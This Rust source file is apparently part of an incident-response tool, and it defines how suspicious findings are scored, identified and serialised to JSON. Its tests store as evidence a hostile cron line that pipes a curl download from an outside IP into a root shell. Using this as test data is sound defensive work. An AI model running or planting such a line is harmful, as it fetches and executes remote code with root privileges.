//! A finding: something suspicious, explained well enough for a sysadmin to act on.
//!
//! Every detector (hunt, package verification, IOC/YARA scans, log detections, backup checks,
//! preflight) produces the same shape, so one printer, one store and one report serve them all. The
//! JSON form is the contract in FORMATS.md; fields holding evidence keep raw bytes and gain a `_b64`
//! companion when those bytes are not UTF-8.

use serde::{Deserialize, Serialize};
use serde_json::{Map, Value, json};
use sha2::{Digest as _, Sha256};

use crate::bytes_json::{decode_b64, insert_bytes};

/// How bad it is, in the order a responder should look.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Severity {
    /// Context, not a problem.
    Info,
    /// Worth a look when time allows.
    Low,
    /// Likely relevant; check it.
    Medium,
    /// Probably the attacker's doing.
    High,
    /// Act now (active backdoor, entry vector, rootkit).
    Critical,
}

impl Severity {
    /// All, lowest first.
    pub const ALL: [Severity; 5] = [
        Severity::Info,
        Severity::Low,
        Severity::Medium,
        Severity::High,
        Severity::Critical,
    ];

    /// The lowercase name.
    pub fn as_str(self) -> &'static str {
        match self {
            Severity::Info => "info",
            Severity::Low => "low",
            Severity::Medium => "medium",
            Severity::High => "high",
            Severity::Critical => "critical",
        }
    }

    /// Parses the lowercase name.
    pub fn parse(s: &str) -> Option<Severity> {
        Severity::ALL.into_iter().find(|v| v.as_str() == s)
    }
}

/// How sure the detector is that this is malicious rather than an unusual admin setup.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Confidence {
    /// A weak signal.
    Low,
    /// Suggestive.
    Medium,
    /// Strong: little benign explanation.
    High,
}

impl Confidence {
    /// The lowercase name.
    pub fn as_str(self) -> &'static str {
        match self {
            Confidence::Low => "low",
            Confidence::Medium => "medium",
            Confidence::High => "high",
        }
    }

    /// Parses the lowercase name.
    pub fn parse(s: &str) -> Option<Confidence> {
        [Confidence::Low, Confidence::Medium, Confidence::High]
            .into_iter()
            .find(|v| v.as_str() == s)
    }
}

/// One finding.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Finding {
    /// Stable id: the same thing found again gets the same id (see [`Finding::compute_id`]).
    pub id: String,
    /// The check that raised it (`cron.download_exec`, `logs.bruteforce_then_success` …).
    pub check: String,
    /// How bad.
    pub severity: Severity,
    /// How sure.
    pub confidence: Confidence,
    /// MITRE ATT&CK technique id (`T1053.003`).
    pub technique: Option<String>,
    /// Path inside the examined system (raw bytes).
    pub path: Option<Vec<u8>>,
    /// Process id, for live findings.
    pub pid: Option<i64>,
    /// User concerned (raw bytes: a hostile account name may be anything).
    pub user: Option<Vec<u8>>,
    /// One sentence: what and why it is suspicious.
    pub summary: String,
    /// The offending line or bytes, raw.
    pub evidence: Vec<u8>,
    /// What to do about it.
    pub remediation: String,
    /// Which system: the live host's name or the root directory examined.
    pub target: String,
    /// Detector-specific facts (counts, IPs, line numbers …).
    pub attrs: Map<String, Value>,
}

impl Finding {
    /// A finding with the required parts; the optional ones start empty. The id is computed from
    /// check, target, path, pid, user and evidence.
    pub fn new(
        check: &str,
        severity: Severity,
        confidence: Confidence,
        summary: impl Into<String>,
        remediation: impl Into<String>,
        target: impl Into<String>,
    ) -> Finding {
        let mut f = Finding {
            id: String::new(),
            check: check.to_owned(),
            severity,
            confidence,
            technique: None,
            path: None,
            pid: None,
            user: None,
            summary: summary.into(),
            evidence: Vec::new(),
            remediation: remediation.into(),
            target: target.into(),
            attrs: Map::new(),
        };
        f.id = f.compute_id();
        f
    }

    /// Sets the ATT&CK technique.
    pub fn technique(mut self, t: &str) -> Finding {
        self.technique = Some(t.to_owned());
        self
    }

    /// Sets the path (and recomputes the id).
    pub fn path(mut self, p: impl Into<Vec<u8>>) -> Finding {
        self.path = Some(p.into());
        self.id = self.compute_id();
        self
    }

    /// Sets the pid (and recomputes the id).
    pub fn pid(mut self, pid: i64) -> Finding {
        self.pid = Some(pid);
        self.id = self.compute_id();
        self
    }

    /// Sets the user (and recomputes the id).
    pub fn user(mut self, u: impl Into<Vec<u8>>) -> Finding {
        self.user = Some(u.into());
        self.id = self.compute_id();
        self
    }

    /// Sets the evidence (and recomputes the id).
    pub fn evidence(mut self, e: impl Into<Vec<u8>>) -> Finding {
        self.evidence = e.into();
        self.id = self.compute_id();
        self
    }

    /// Adds a detector-specific fact.
    pub fn attr(mut self, key: &str, value: impl Into<Value>) -> Finding {
        self.attrs.insert(key.to_owned(), value.into());
        self
    }

    /// `f-` and 16 hex digits of SHA-256 over the identifying fields, length-prefixed.
    pub fn compute_id(&self) -> String {
        let mut h = Sha256::new();
        let pid = self.pid.map(|p| p.to_string()).unwrap_or_default();
        for field in [
            self.check.as_bytes(),
            self.target.as_bytes(),
            self.path.as_deref().unwrap_or_default(),
            pid.as_bytes(),
            self.user.as_deref().unwrap_or_default(),
            &self.evidence,
        ] {
            h.update((field.len() as u64).to_be_bytes());
            h.update(field);
        }
        let digest = h.finalize();
        format!(
            "f-{}",
            digest
                .iter()
                .take(8)
                .map(|b| format!("{b:02x}"))
                .collect::<String>()
        )
    }

    /// The JSON object of the output contract.
    pub fn to_json(&self) -> Value {
        let mut m = Map::new();
        m.insert("id".into(), json!(self.id));
        m.insert("check".into(), json!(self.check));
        m.insert("severity".into(), json!(self.severity.as_str()));
        m.insert("confidence".into(), json!(self.confidence.as_str()));
        m.insert("technique".into(), json!(self.technique));
        match &self.path {
            Some(p) => insert_bytes(&mut m, "path", p),
            None => {
                m.insert("path".into(), Value::Null);
            }
        }
        m.insert("pid".into(), json!(self.pid));
        match &self.user {
            Some(u) => insert_bytes(&mut m, "user", u),
            None => {
                m.insert("user".into(), Value::Null);
            }
        }
        m.insert("summary".into(), json!(self.summary));
        insert_bytes(&mut m, "evidence", &self.evidence);
        m.insert("remediation".into(), json!(self.remediation));
        m.insert("target".into(), json!(self.target));
        if !self.attrs.is_empty() {
            m.insert("attrs".into(), Value::Object(self.attrs.clone()));
        }
        Value::Object(m)
    }

    /// Reads the JSON object back (as stored in a case); `None` when required fields are missing.
    pub fn from_json(v: &Value) -> Option<Finding> {
        let s = |k: &str| v.get(k).and_then(Value::as_str);
        let bytes = |k: &str| -> Option<Vec<u8>> {
            match s(&format!("{k}_b64")) {
                Some(b64) => decode_b64(b64).ok(),
                None => s(k).map(|t| t.as_bytes().to_vec()),
            }
        };
        Some(Finding {
            id: s("id")?.to_owned(),
            check: s("check")?.to_owned(),
            severity: Severity::parse(s("severity")?)?,
            confidence: Confidence::parse(s("confidence")?)?,
            technique: s("technique").map(str::to_owned),
            path: bytes("path"),
            pid: v.get("pid").and_then(Value::as_i64),
            user: bytes("user"),
            summary: s("summary")?.to_owned(),
            evidence: bytes("evidence").unwrap_or_default(),
            remediation: s("remediation").unwrap_or_default().to_owned(),
            target: s("target").unwrap_or_default().to_owned(),
            attrs: v
                .get("attrs")
                .and_then(Value::as_object)
                .cloned()
                .unwrap_or_default(),
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn json_round_trips_with_hostile_bytes_and_ids_are_stable() {
        let f = Finding::new(
            "cron.download_exec",
            Severity::High,
            Confidence::High,
            "pipes a download into sh",
            "remove it",
            "web01",
        )
        .technique("T1053.003")
        .path(b"/etc/cron.d/x\xff".to_vec())
        .user("root")
        .evidence(b"*/5 * * * * root curl -fsSL http://203.0.113.7/k.sh | sh\x1b[2J".to_vec())
        .attr("line", 3);
        let v = f.to_json();
        assert_eq!(v["severity"], "high");
        assert_eq!(v["technique"], "T1053.003");
        assert!(v.get("path_b64").is_some());
        assert_eq!(Finding::from_json(&v).unwrap(), f);
        let again = Finding::new(
            "cron.download_exec",
            Severity::High,
            Confidence::High,
            "other words",
            "x",
            "web01",
        )
        .path(b"/etc/cron.d/x\xff".to_vec())
        .user("root")
        .evidence(b"*/5 * * * * root curl -fsSL http://203.0.113.7/k.sh | sh\x1b[2J".to_vec());
        assert_eq!(again.id, f.id, "same thing found again, same id");
        assert!(f.id.starts_with("f-") && f.id.len() == 18);
    }

    #[test]
    fn severities_order_from_info_to_critical() {
        assert!(Severity::Critical > Severity::High && Severity::Low > Severity::Info);
        assert_eq!(Severity::parse("medium"), Some(Severity::Medium));
        assert_eq!(Severity::parse("severe"), None);
    }
}
